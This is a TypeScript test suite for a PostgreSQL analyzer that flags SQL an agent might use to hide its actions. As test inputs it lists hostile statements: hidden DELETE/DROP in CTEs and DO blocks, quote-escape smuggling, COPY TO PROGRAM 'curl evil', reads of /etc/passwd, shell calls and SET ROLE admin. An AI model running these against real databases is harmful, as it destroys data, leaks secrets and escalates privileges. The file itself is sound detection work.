/**
 * The adversarial list: statements an agent uses to hide what it does. Each case lists the
 * statements analyzeSql must report, in order (top-level ones, each followed by its hidden
 * ones), by verb, origin and the facts that matter.
 */
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { analyzeSql, loadSqlParser } from '../../../protocols/postgres/sql-facts.js';
import type { SqlStatementFacts } from '../../../protocols/postgres/sql-types.js';
import { includesAll, statements } from './sql-helpers.js';

interface Expect {
  verb: string;
  hidden?: boolean;
  origin?: string;
  tables?: string[];
  columns?: string[];
  functions?: string[];
  statement?: string;
  program?: string;
  unknown?: boolean;
}

const CASES: [string, Expect[]][] = [
  ['SELECT 1; DELETE FROM t', [{ verb: 'select', statement: 'SELECT 1' }, { verb: 'delete', tables: ['t'], statement: 'DELETE FROM t' }]],
  ['SELECT 1;DELETE FROM t;', [{ verb: 'select' }, { verb: 'delete', statement: 'DELETE FROM t' }]],
  ["SELECT 'é'; DELETE FROM t", [{ verb: 'select', statement: "SELECT 'é'" }, { verb: 'delete', statement: 'DELETE FROM t' }]],
  ['WITH x AS (DELETE FROM t RETURNING *) SELECT 1', [
    { verb: 'select', tables: ['t'] },
    { verb: 'delete', hidden: true, origin: 'cte', tables: ['t'], statement: 'DELETE FROM t RETURNING *' },
  ]],
  ['WITH x AS (DELETE FROM env_vars RETURNING *) SELECT secret FROM x', [
    { verb: 'select', tables: ['env_vars'], columns: ['env_vars.secret', 'env_vars.*'] },
    { verb: 'delete', hidden: true, origin: 'cte', tables: ['env_vars'] },
  ]],
  ['WITH a (n) AS MATERIALIZED (SELECT 1), b AS (INSERT INTO t SELECT n FROM a RETURNING id) SELECT * FROM b', [
    { verb: 'select', tables: ['t'] },
    { verb: 'insert', hidden: true, origin: 'cte', tables: ['t'], statement: 'INSERT INTO t SELECT n FROM a RETURNING id' },
  ]],
  ['INSERT INTO log WITH d AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM d', [
    { verb: 'insert', tables: ['log', 't'] },
    { verb: 'update', hidden: true, origin: 'cte', tables: ['t'] },
  ]],
  ['DO $$ BEGIN DROP TABLE t; END $$', [
    { verb: 'do', tables: ['t'] },
    { verb: 'drop', hidden: true, origin: 'do', tables: ['t'], statement: 'DROP TABLE t' },
  ]],
  ["DO 'BEGIN DELETE FROM t; END'", [{ verb: 'do' }, { verb: 'delete', hidden: true, origin: 'do', tables: ['t'] }]],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || 't'; END $$", [
    { verb: 'do', unknown: true },
    { verb: '', hidden: true, origin: 'do', unknown: true },
    { verb: 'select', hidden: true, origin: 'do' },
  ]],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", [
    { verb: 'do', tables: ['t'] },
    { verb: 'drop', hidden: true, origin: 'do', tables: ['t'] },
    { verb: 'select', hidden: true, origin: 'do' },
  ]],
  ["DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE format('SELECT * FROM %I', 'env_vars') LOOP END LOOP; END $$", [
    { verb: 'do', unknown: true },
    { verb: '', hidden: true, unknown: true },
    { verb: 'select', hidden: true, functions: ['format'] },
  ]],
  ['DO $$ DECLARE n int; BEGIN n := (SELECT count(*) FROM env_vars); IF EXISTS (SELECT 1 FROM v) THEN PERFORM pg_sleep(1); END IF; END $$', [
    { verb: 'do', tables: ['env_vars', 'v'], functions: ['count', 'pg_sleep'] },
    { verb: 'select', hidden: true, origin: 'do', tables: ['env_vars'] },
    { verb: 'select', hidden: true, origin: 'do', tables: ['v'] },
    { verb: 'select', hidden: true, origin: 'do', functions: ['pg_sleep'] },
  ]],
  // A body that contains the wrapper's own dollar tag cannot close the wrapper early.
  ['DO $bailiff$ BEGIN DELETE FROM t; END $bailiff$', [{ verb: 'do' }, { verb: 'delete', hidden: true, tables: ['t'] }]],
  ["DO $x$ BEGIN RAISE NOTICE '$bailiff$'; DELETE FROM t; END $x$", [
    { verb: 'do', tables: ['t'] }, { verb: 'delete', hidden: true, tables: ['t'] },
  ]],
  ['DO $$ BEGIN this is not plpgsql; END $$', [{ verb: 'do', unknown: true }, { verb: '', hidden: true, origin: 'do', unknown: true }]],
  ["DO LANGUAGE plpython3u 'import os'", [{ verb: 'do', unknown: true }, { verb: '', hidden: true, origin: 'do', unknown: true }]],
  ['PREPARE p AS DELETE FROM t', [
    { verb: 'prepare', tables: ['t'] },
    { verb: 'delete', hidden: true, origin: 'prepare', tables: ['t'], statement: 'DELETE FROM t' },
  ]],
  ['PREPARE p (int, text) AS SELECT secret FROM env_vars WHERE id = $1', [
    { verb: 'prepare' },
    { verb: 'select', hidden: true, origin: 'prepare', columns: ['env_vars.secret'], statement: 'SELECT secret FROM env_vars WHERE id = $1' },
  ]],
  ['EXPLAIN ANALYZE DELETE FROM t', [
    { verb: 'explain', tables: ['t'] },
    { verb: 'delete', hidden: true, origin: 'explain-analyze', tables: ['t'], statement: 'DELETE FROM t' },
  ]],
  ['EXPLAIN (ANALYZE, BUFFERS) /* c */ UPDATE t SET a = 1', [
    { verb: 'explain' }, { verb: 'update', hidden: true, origin: 'explain-analyze', statement: 'UPDATE t SET a = 1' },
  ]],
  ['EXPLAIN DELETE FROM t', [{ verb: 'explain', tables: ['t'] }, { verb: 'delete', hidden: true, origin: 'explain' }]],
  ['EXPLAIN (ANALYZE off) DELETE FROM t', [{ verb: 'explain' }, { verb: 'delete', hidden: true, origin: 'explain' }]],
  ["COPY t TO PROGRAM 'curl evil'", [
    { verb: 'copy', tables: ['t'], program: 'curl evil' },
    { verb: 'copy', hidden: true, origin: 'copy-program', tables: ['t'], program: 'curl evil' },
  ]],
  ["COPY env_vars FROM PROGRAM 'cat /etc/passwd'", [
    { verb: 'copy', program: 'cat /etc/passwd' }, { verb: 'copy', hidden: true, origin: 'copy-program' },
  ]],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', [
    { verb: 'copy', tables: ['t'] }, { verb: 'delete', hidden: true, origin: 'copy-query', tables: ['t'] },
  ]],
  ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$', [
    { verb: 'create', tables: ['t'] },
    { verb: 'delete', hidden: true, origin: 'create-function-body', tables: ['t'], statement: 'DELETE FROM t' },
  ]],
  ['CREATE FUNCTION f(OUT a int) LANGUAGE plpgsql AS $$ BEGIN a := (SELECT count(*) FROM env_vars); RETURN; END $$', [
    { verb: 'create', tables: ['env_vars'] }, { verb: 'select', hidden: true, origin: 'create-function-body', tables: ['env_vars'] },
  ]],
  ['CREATE FUNCTION g() RETURNS SETOF env_vars LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY SELECT * FROM env_vars; END $$', [
    { verb: 'create' }, { verb: 'select', hidden: true, columns: ['env_vars.*'] },
  ]],
  ['CREATE FUNCTION tg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO audit VALUES (NEW.id); RETURN NEW; END $$', [
    { verb: 'create', tables: ['audit'] }, { verb: 'insert', hidden: true, tables: ['audit'] },
  ]],
  ["CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM t; SELECT secret FROM env_vars'", [
    { verb: 'create', tables: ['t', 'env_vars'] },
    { verb: 'delete', hidden: true, origin: 'create-function-body', statement: 'DELETE FROM t' },
    { verb: 'select', hidden: true, origin: 'create-function-body', columns: ['env_vars.secret'] },
  ]],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END', [
    { verb: 'create', tables: ['t'] },
    { verb: 'delete', hidden: true, origin: 'create-function-body' },
    { verb: 'select', hidden: true, origin: 'create-function-body' },
  ]],
  ['CREATE FUNCTION f() RETURNS bigint LANGUAGE sql RETURN (SELECT count(*) FROM env_vars)', [
    { verb: 'create', tables: ['env_vars'] }, { verb: 'select', hidden: true, origin: 'create-function-body', tables: ['env_vars'] },
  ]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE plperlu AS 'system(\"id\")'", [
    { verb: 'create', unknown: true }, { verb: '', hidden: true, origin: 'create-function-body', unknown: true },
  ]],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'mylib', 'f'", [{ verb: 'create' }]],
  ['CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM env_vars', [
    { verb: 'create', tables: ['t', 'env_vars'] }, { verb: 'select', hidden: true, origin: 'rule-action', columns: ['env_vars.*'] },
  ]],
  ['CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM u; INSERT INTO v VALUES (new.a))', [
    { verb: 'create', tables: ['t', 'u', 'v'] },
    { verb: 'delete', hidden: true, origin: 'rule-action', tables: ['u'] },
    { verb: 'insert', hidden: true, origin: 'rule-action', tables: ['v'], columns: ['t.a'] },
  ]],
  ['CREATE TRIGGER tr AFTER DELETE ON t FOR EACH ROW EXECUTE FUNCTION wipe()', [{ verb: 'create', tables: ['t'], functions: ['wipe'] }]],
  ['SELECT * FROM env_vars', [{ verb: 'select', tables: ['env_vars'], columns: ['env_vars.*'] }]],
  ['SELECT e.secret FROM env_vars e', [{ verb: 'select', columns: ['env_vars.secret'] }]],
  ['SELECT x.s FROM (SELECT secret AS s FROM env_vars) x', [{ verb: 'select', columns: ['env_vars.secret'] }]],
  ['SELECT row_to_json(e) FROM env_vars e', [{ verb: 'select', columns: ['env_vars.*'], functions: ['row_to_json'] }]],
  ['SELECT (e).* FROM env_vars e', [{ verb: 'select', columns: ['env_vars.*'] }]],
  ['SELECT secret FROM env_vars UNION SELECT 1', [{ verb: 'select', columns: ['env_vars.secret'] }]],
  ['CREATE TABLE t2 AS SELECT * FROM env_vars', [{ verb: 'create', tables: ['t2', 'env_vars'], columns: ['env_vars.*'] }]],
  ["SELECT pg_read_file('/etc/passwd')", [{ verb: 'select', functions: ['pg_read_file'] }]],
  // Comments, dollar quotes and escapes that hide semicolons: the real lexer decides.
  ['SELECT 1 /* ; DROP TABLE t; */; -- ; DELETE FROM x', [{ verb: 'select', statement: 'SELECT 1 /* ; DROP TABLE t; */' }]],
  ['SELECT 1 /* nested /* ; DROP TABLE t; */ still comment */', [{ verb: 'select', tables: [] }]],
  ['SELECT $$;DROP TABLE t;$$', [{ verb: 'select', tables: [] }]],
  ['SELECT $a$ $$ ; DROP TABLE t; $$ $a$', [{ verb: 'select', tables: [] }]],
  ["SELECT E'\\''; DELETE FROM t", [{ verb: 'select' }, { verb: 'delete', tables: ['t'] }]],
  ["SELECT E'\\'; DELETE FROM t; --'", [{ verb: 'select', tables: [] }]],
  // standard_conforming_strings is on: the backslash is literal, so the DROP is a statement.
  ["SELECT 'a\\'; DROP TABLE t; --'", [{ verb: 'select' }, { verb: 'drop', tables: ['t'] }]],
  ['SELECT "a;b" FROM "x;y"', [{ verb: 'select', tables: ['x;y'], columns: ['x;y.a;b'] }]],
  ['SELECT * FROM U&"env\\005fvars"', [{ verb: 'select', tables: ['env_vars'] }]],
  ["SELECT U&'\\0027; DROP TABLE t; --'", [{ verb: 'select', tables: [] }]],
  // Functions that run SQL given as text.
  ["SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING id') AS r(id int)", [
    { verb: 'select', tables: ['t'], functions: ['dblink'] },
    { verb: 'delete', hidden: true, origin: 'function-sql', tables: ['t'], statement: 'DELETE FROM t RETURNING id' },
  ]],
  ["SELECT dblink_exec('DROP TABLE t', false)", [{ verb: 'select', tables: ['t'] }, { verb: 'drop', hidden: true, origin: 'function-sql' }]],
  ["SELECT query_to_xml('SELECT secret FROM env_vars', true, true, '')", [
    { verb: 'select', columns: ['env_vars.secret'] }, { verb: 'select', hidden: true, origin: 'function-sql', columns: ['env_vars.secret'] },
  ]],
  ["SELECT query_to_xml($1, true, true, '')", [{ verb: 'select', unknown: true }, { verb: '', hidden: true, origin: 'function-sql', unknown: true }]],
  ["SELECT query_to_xml('not sql at all', true, true, '')", [{ verb: 'select', unknown: true }, { verb: '', hidden: true, unknown: true }]],
  // Settings that change how the server lexes what follows.
  ['SET standard_conforming_strings = off', [{ verb: 'set', unknown: true }]],
  ['SET standard_conforming_strings = on', [{ verb: 'set' }]],
  ["SET client_encoding = 'SJIS'", [{ verb: 'set', unknown: true }]],
  ["SET NAMES 'UTF8'", [{ verb: 'set' }]],
  ["SELECT set_config('standard_conforming_strings', 'off', false)", [{ verb: 'select', unknown: true }]],
  // pg_settings' update rule is set_config: a write to it is a SET whose target the rows decide.
  ["UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", [{ verb: 'update', unknown: true }]],
  ["UPDATE pg_catalog.pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'", [{ verb: 'update', unknown: true }]],
  ["INSERT INTO pg_settings (name, setting) VALUES ('standard_conforming_strings', 'off')", [{ verb: 'insert', unknown: true }]],
  ["WITH s AS (UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings' RETURNING 1) SELECT 1", [
    { verb: 'select', unknown: true }, { verb: 'update', hidden: true, origin: 'cte', unknown: true },
  ]],
  ['SELECT name, setting FROM pg_settings', [{ verb: 'select' }]],
  // A role switch leaves sql.user naming the login role: unknown, so rules about it fail closed.
  ['SET ROLE admin', [{ verb: 'set', unknown: true }]],
  ["SET LOCAL ROLE 'admin'", [{ verb: 'set', unknown: true }]],
  ['SET SESSION AUTHORIZATION admin', [{ verb: 'set', unknown: true }]],
  ["SELECT set_config('role', 'admin', false)", [{ verb: 'select', unknown: true }]],
  ["SELECT set_config('role', current_setting('x'), false)", [{ verb: 'select', unknown: true }]],
  ['ALTER ROLE app SET role = admin', [{ verb: 'alter', unknown: true }]],
  ['SET ROLE NONE', [{ verb: 'set' }]],
  ['RESET ROLE', [{ verb: 'reset' }]],
  ['SET SESSION AUTHORIZATION DEFAULT', [{ verb: 'set' }]],
  ['ALTER DATABASE d SET standard_conforming_strings TO off', [{ verb: 'alter', unknown: true }]],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS $$SELECT 1$$', [
    { verb: 'create', unknown: true }, { verb: 'select', hidden: true },
  ]],
];

function check(sql: string, got: SqlStatementFacts[], want: Expect[]): void {
  assert.equal(got.length, want.length, `${sql}: ${JSON.stringify(got.map((s) => [s.verb, s.origin, s.statement]))}`);
  want.forEach((w, i) => {
    const g = got[i]!;
    const at = `${sql} [${i}]`;
    assert.equal(g.verb, w.verb, `${at} verb`);
    assert.equal(g.hidden, w.hidden ?? false, `${at} hidden`);
    if (w.origin !== undefined) assert.equal(g.origin, w.origin, `${at} origin`);
    if (w.tables) includesAll(g.tables, w.tables, `${at} tables`);
    if (w.tables?.length === 0) assert.deepEqual(g.tables, [], `${at} tables`);
    if (w.columns) includesAll(g.columns, w.columns, `${at} columns`);
    if (w.functions) includesAll(g.functions, w.functions, `${at} functions`);
    if (w.statement !== undefined) assert.equal(g.statement, w.statement, `${at} statement`);
    if (w.program !== undefined) assert.equal(g.program, w.program, `${at} program`);
    if (w.unknown) assert.deepEqual(g.unknownFacts, ['sql.verb', 'sql.tables', 'sql.columns', 'sql.functions'], `${at} unknown`);
    else assert.equal(g.unknownFacts, undefined, `${at} unknownFacts`);
  });
}

describe('hidden and adversarial statements', () => {
  before(loadSqlParser);
  for (const [sql, want] of CASES) it(sql, () => check(sql, statements(sql), want));

  it('nested DO bodies beyond the depth cap are unknown, and so is every encloser', () => {
    let q = 'DROP TABLE t';
    for (let i = 0; i < 12; i++) q = `DO $t${i}$ BEGIN ${q}; END $t${i}$`;
    const s = statements(q);
    assert.ok(s.every((x) => x.unknownFacts !== undefined));
    assert.ok(s.some((x) => x.verb === '' && x.hidden));
  });

  it('a few nested DO bodies are followed to the end', () => {
    let q = 'DROP TABLE t';
    for (let i = 0; i < 3; i++) q = `DO $t${i}$ BEGIN ${q}; END $t${i}$`;
    const s = statements(q);
    assert.deepEqual(s.map((x) => x.verb), ['do', 'do', 'do', 'drop']);
    assert.ok(s.every((x) => x.unknownFacts === undefined && x.tables.includes('t')));
  });
});

describe('failures are closed and typed', () => {
  before(loadSqlParser);
  const ALL = ['sql.verb', 'sql.tables', 'sql.columns', 'sql.functions'];

  it('unparseable text: SQL_PARSE_ERROR with the position and every fact unknown', () => {
    const r = analyzeSql('SELECT 1; SELEC 2', { cache: false });
    assert.ok(!r.ok);
    assert.equal(r.error.code, 'SQL_PARSE_ERROR');
    assert.equal(r.error.position, 10);
    assert.deepEqual(r.unknown, ALL);
  });

  it('one bad statement fails the whole text (none of it would run)', () => {
    const r = analyzeSql("DELETE FROM t; SELECT 'unterminated", { cache: false });
    assert.ok(!r.ok && r.error.code === 'SQL_PARSE_ERROR');
  });

  it('too long: SQL_TOO_LONG before parsing', () => {
    const r = analyzeSql(`SELECT '${'x'.repeat(100)}'`, { cache: false, maxLength: 50 });
    assert.ok(!r.ok && r.error.code === 'SQL_TOO_LONG');
    assert.deepEqual(r.unknown, ALL);
    const big = analyzeSql(`SELECT '${'x'.repeat(300_000)}'`, { cache: false });
    assert.ok(!big.ok && big.error.code === 'SQL_TOO_LONG');
  });

  it('a NUL character (the parser would stop there and miss the rest): SQL_UNSUPPORTED', () => {
    const r = analyzeSql('SELECT 1\0; DROP TABLE t', { cache: false });
    assert.ok(!r.ok && r.error.code === 'SQL_UNSUPPORTED');
  });

  it('a lone surrogate (no UTF-8 form): SQL_UNSUPPORTED; a real astral character is fine', () => {
    const r = analyzeSql("SELECT '\uD800'; DROP TABLE t; --'", { cache: false });
    assert.ok(!r.ok && r.error.code === 'SQL_UNSUPPORTED');
    const ok = analyzeSql("SELECT '😀'; DELETE FROM t", { cache: false });
    assert.ok(ok.ok && ok.statements.length === 2 && ok.statements[1]!.statement === 'DELETE FROM t');
  });

  it('very deep nesting: SQL_UNSUPPORTED, never a thrown stack overflow', () => {
    for (const q of [
      `SELECT ${Array(5000).fill('a').join(' + ')} FROM t`,
      `SELECT ${'(SELECT '.repeat(3000)}1${')'.repeat(3000)}`,
      `SELECT ${'ARRAY['.repeat(3000)}1${']'.repeat(3000)}`,
    ]) {
      const r = analyzeSql(q, { cache: false });
      assert.ok(!r.ok, q.slice(0, 30));
      assert.ok(r.error.code === 'SQL_UNSUPPORTED' || r.error.code === 'SQL_PARSE_ERROR', r.error.code);
    }
  });

  it('empty and comment-only text: ok with no statements', () => {
    for (const q of ['', '   ', '-- only a comment', '/* x */ ;;']) {
      const r = analyzeSql(q, { cache: false });
      assert.ok(r.ok);
      assert.deepEqual(r.statements, []);
    }
  });

  it('a long CTE chain resolves in bounded time', () => {
    const ctes = Array.from({ length: 2000 }, (_, i) => `c${i} AS (SELECT * FROM ${i ? `c${i - 1}` : 'env_vars'})`);
    const t = performance.now();
    const r = analyzeSql(`WITH ${ctes.join(', ')} SELECT secret FROM c1999`, { cache: false });
    assert.ok(performance.now() - t < 5000);
    assert.ok(r.ok);
    assert.ok(r.statements[0]!.columns.includes('env_vars.secret'));
  });
});
